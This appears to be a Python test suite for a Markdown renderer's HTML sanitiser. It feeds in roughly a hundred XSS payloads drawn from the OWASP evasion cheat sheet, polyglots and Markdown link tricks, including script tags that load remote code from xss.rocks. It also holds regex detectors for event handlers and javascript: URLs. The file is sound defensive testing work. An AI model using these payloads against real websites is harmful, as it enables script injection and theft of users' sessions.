"""Hostile input against render_markdown's sanitiser.

Vectors are taken from the OWASP XSS Filter Evasion Cheat Sheet, well-known
polyglots and mutation-XSS payloads, plus Markdown-specific link tricks.
"""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.text.markdown import render_markdown
from tests.text.html_checks import problems

FAST = settings(max_examples=200, deadline=None)

# Spec checks on the serialised output: an " on...=" attribute, or a
# javascript:/vbscript:/data: URL in href/src, inside a tag.  Quoted values
# are matched whole so text inside alt/title cannot trigger a false alarm.
_TAG_ATTRIBUTES = r"""<[A-Za-z][\w:-]*(?:\s+[^\s=>"']+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>"']+))?)*?"""
EVENT_ATTRIBUTE_RE = re.compile(_TAG_ATTRIBUTES + r"\s+on\w+\s*=", re.IGNORECASE)
URL_ATTRIBUTE_RE = re.compile(
    _TAG_ATTRIBUTES + r"""\s+(?:href|src)\s*=\s*["']?\s*(?:javascript|vbscript|data):""",
    re.IGNORECASE,
)


def test_spec_regexes_detect_what_they_should() -> None:
    assert EVENT_ATTRIBUTE_RE.search('<img src="x" onerror="alert(1)">')
    assert EVENT_ATTRIBUTE_RE.search("<svg onload=alert(1)>")
    assert not EVENT_ATTRIBUTE_RE.search('<img alt="x onerror=alert(1)">')
    assert not EVENT_ATTRIBUTE_RE.search("&lt;img onerror=alert(1)&gt;")
    assert URL_ATTRIBUTE_RE.search('<a title="t" href="javascript:alert(1)">')
    assert URL_ATTRIBUTE_RE.search("<img src= data:image/png,x>")
    assert not URL_ATTRIBUTE_RE.search('<a title="href=javascript:x" href="/ok">')


ALERT_XSS = "javascript:alert('XSS')"


def encoded(text: str, template: str) -> str:
    """Every character of ``text`` as a character reference, OWASP-style."""
    return "".join(template.format(ord(ch)) for ch in text)


XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '"><script>alert(1)</script>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=alert(1)>",
    '<img src="https://example.com/a.png" onerror="alert(1)">',
    f'<img src=x onerror="{encoded(ALERT_XSS, "&#{:07d}")}">',
    f"<IMG SRC={encoded(ALERT_XSS, '&#{};')}>",
    f"<IMG SRC={encoded(ALERT_XSS, '&#{:07d}')}>",
    f"<IMG SRC={encoded(ALERT_XSS, '&#x{:X}')}>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    ('<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'),
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    (
        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3Z'
        'nIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" '
        'AllowScriptAccess="always"></EMBED>'
    ),
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    '<xss onmouseover="alert(1)" style="display:block">x</xss>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "'\"><img src=x onerror=alert(1)//>",
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"
    ),
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    '<base href="javascript:alert(1)//">',
    # Markdown-specific.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x]( javascript:alert(1) "title")',
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![x" onerror="alert(1)](https://example.com/a.png)',
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "![x][evil]\n\n[evil]: data:image/svg+xml,<svg onload=alert(1)>",
    "<javascript:alert(1)>",
    "[![img](https://example.com/a.png)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
]


@pytest.mark.parametrize("source", XSS_VECTORS)
def test_xss_vector_is_neutralised(source: str) -> None:
    html = render_markdown(source)
    assert problems(html) == []
    assert "<script" not in html.lower()
    assert not EVENT_ATTRIBUTE_RE.search(html)
    assert not URL_ATTRIBUTE_RE.search(html)
    assert "style=" not in html.lower()


def test_vector_list_is_substantial() -> None:
    assert len(XSS_VECTORS) >= 30


@pytest.mark.parametrize(
    ("source", "hidden", "visible"),
    [
        ("<script>alert(1)</script>after", "alert(1)", "after"),
        ('before<script type="text/javascript">var secret = 1;</script>', "secret", "before"),
        ("<style>body { color: red }</style>text", "color", "text"),
        ('<iframe src="https://evil.example">fallback</iframe>ok', "fallback", "ok"),
        ("<textarea>typed</textarea>ok", "typed", "ok"),
        ("<title>page title</title>ok", "page title", "ok"),
        ("<noscript>enable js</noscript>ok", "enable js", "ok"),
        ("<xmp>raw</xmp>ok", "raw", "ok"),
        ("<template><b>inert</b></template>ok", "inert", "ok"),
        ('<object data="x">fallback</object>ok', "fallback", "ok"),
        ("<svg><text>drawn</text><script>alert(2)</script></svg>ok", "alert(2)", "ok"),
        ("<math><mi>x2</mi></math>ok", "x2", "ok"),
        ("<SCRIPT>alert(3)</SCRIPT>ok", "alert(3)", "ok"),
        ("<script>document.write('<b>x</b>')</script>ok", "document.write", "ok"),
    ],
)
def test_dropped_elements_lose_their_content(source: str, hidden: str, visible: str) -> None:
    html = render_markdown(source)
    assert hidden not in html
    assert visible in html


def test_dropping_does_not_eat_the_rest_of_the_document() -> None:
    html = render_markdown("<embed src=x>visible <svg><svg></svg></svg>still <b>here</b>")
    assert "visible" in html
    assert "still" in html
    assert "<b>here</b>" in html


@pytest.mark.parametrize(
    ("source", "kept"),
    [
        ("<font color=red>แดง</font>", "แดง"),
        ("<center>กลาง</center>", "กลาง"),
        ("<button>กด</button>", "กด"),
        ("<xss>text</xss>", "text"),
    ],
)
def test_disallowed_tags_are_stripped_keeping_text(source: str, kept: str) -> None:
    html = render_markdown(source)
    assert kept in html
    assert problems(html) == []


def test_comments_are_removed() -> None:
    assert "secret" not in render_markdown("a <!-- secret --> b")


HOSTILE_FRAGMENTS = [
    "<script>",
    "</script>",
    "<SCRIPT>",
    "alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=",
    "javascript:",
    "JaVaScRiPt:",
    "jav&#x09;ascript:",
    "&#x6A;",
    "&#106;",
    "&colon;",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,",
    "vbscript:",
    '<a href="',
    "<a href=",
    '">',
    "'>",
    "'",
    '"',
    "`",
    "<",
    ">",
    "/>",
    "=",
    " onerror=",
    " onclick=",
    "onload=",
    " style=",
    "expression(",
    "[x](",
    "![y](",
    "](",
    "[",
    "]",
    "(",
    ")",
    "[ref]: ",
    "<svg onload=alert(1)>",
    "<svg>",
    "<math>",
    "<style>",
    "</style>",
    "<iframe>",
    "<noscript>",
    "</noscript>",
    "<textarea>",
    "<title>",
    "<template>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "\n",
    "\n\n",
    "> ",
    ">",
    "- ",
    "1. ",
    "    ",
    "```",
    "~~~",
    "*",
    "**",
    "_",
    "|",
    "|---|",
    "\t",
    "&",
    ";",
    "#",
    '<p title="',
    "<b>",
    "</b>",
    "<div>",
    "</div>",
    "<table>",
    "<td>",
    "http://x.com",
    "https://example.com/a.png",
    "www.",
    "\x00",
    "\u200b",
    "ไทย",
    "/",
    "\\",
    ":",
    " ",
    "<http://a.com>",
    "<javascript:alert(1)>",
    "<a",
    "<img",
    " src=x",
    "href=",
]
hostile_text = st.lists(st.sampled_from(HOSTILE_FRAGMENTS), max_size=40).map("".join)


@FAST
@given(st.text())
def test_any_text_renders_safely(source: str) -> None:
    html = render_markdown(source)
    assert isinstance(html, str)
    assert problems(html) == []


@FAST
@given(hostile_text)
def test_hostile_fragments_render_safely(source: str) -> None:
    html = render_markdown(source)
    assert problems(html) == []
    assert "<script" not in html.lower()
